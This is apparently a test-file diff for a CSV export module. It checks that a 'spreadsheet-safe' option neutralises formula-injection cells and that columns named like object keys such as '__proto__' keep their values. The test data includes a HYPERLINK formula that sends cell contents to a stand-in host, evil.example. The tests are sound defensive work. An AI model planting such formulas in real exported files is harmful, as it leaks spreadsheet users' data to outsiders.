@@ -38,6 +38,68 @@ describe('exports', () => {
 		);
 	});
 
+	it('spreadsheet-safe CSV neutralises formula text in cells and names, never numbers', async () => {
+		const hostile = [
+			'=HYPERLINK("http://evil.example/?x="&A1,"click me")',
+			'+1+1',
+			'-2+3',
+			'@SUM(A1:A2)',
+			'\tTAB',
+			'\rCR',
+			'plain',
+			'a=b'
+		];
+		const values = hostile.map((h, i) => `(${i}, '${h.replaceAll("'", "''")}', ${-5 - i})`);
+		const sql = `SELECT id, t AS "=cmd", n FROM (VALUES ${values.join(', ')}) v(id, t, n) ORDER BY id`;
+		const decode = (b: Uint8Array) => new TextDecoder('utf-8', { ignoreBOM: true }).decode(b);
+		const safe = decode(
+			await collect((sink) => core.exportCsv(sql, sink, undefined, { spreadsheetSafe: true }))
+		);
+		const lines = safe.replace('\uFEFF', '').split('\r\n');
+		expect(lines[0]).toBe("id,'=cmd,n");
+		const cells = lines.slice(1, -1).map((l) => l.slice(l.indexOf(',') + 1, l.lastIndexOf(',')));
+		expect(cells).toEqual([
+			'"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click me"")"',
+			"'+1+1",
+			"'-2+3",
+			"'@SUM(A1:A2)",
+			"'\tTAB",
+			'"\'\rCR"',
+			'plain',
+			'a=b'
+		]);
+		// numbers stay numbers: -5 … -12, untouched
+		expect(lines.slice(1, -1).map((l) => l.slice(l.lastIndexOf(',') + 1))).toEqual(
+			hostile.map((_h, i) => String(-5 - i))
+		);
+		// without the option (backups, other programs) every value is written as it is
+		const raw = decode(await collect((sink) => core.exportCsv(sql, sink)));
+		expect(raw).toContain('\r\n1,+1+1,-6\r\n');
+		expect(raw.split('\r\n')[0]).toBe('\uFEFFid,=cmd,n');
+	});
+
+	it('columns named like object keys keep their values', async () => {
+		const sql = `SELECT 1 AS "__proto__", 'c' AS "constructor", 't' AS "toString", 2 AS "hasOwnProperty", 'v' AS "valueOf"`;
+		const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
+			await collect((sink) => core.exportCsv(sql, sink))
+		);
+		expect(text).toBe(
+			'\uFEFF__proto__,constructor,toString,hasOwnProperty,valueOf\r\n1,c,t,2,v\r\n'
+		);
+		const rows = (await core.query(sql)).rows;
+		expect(Object.entries(rows[0]!)).toEqual([
+			['__proto__', 1],
+			['constructor', 'c'],
+			['toString', 't'],
+			['hasOwnProperty', 2],
+			['valueOf', 'v']
+		]);
+		// and after a trip through structured cloning (the worker → page boundary)
+		const cloned = structuredClone(rows[0]!);
+		expect(cloned['__proto__']).toBe(1);
+		expect(cloned['constructor']).toBe('c');
+	});
+
 	it('an empty result still has its header', async () => {
 		const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(
 			await collect((sink) => core.exportCsv('SELECT * FROM people WHERE false', sink))
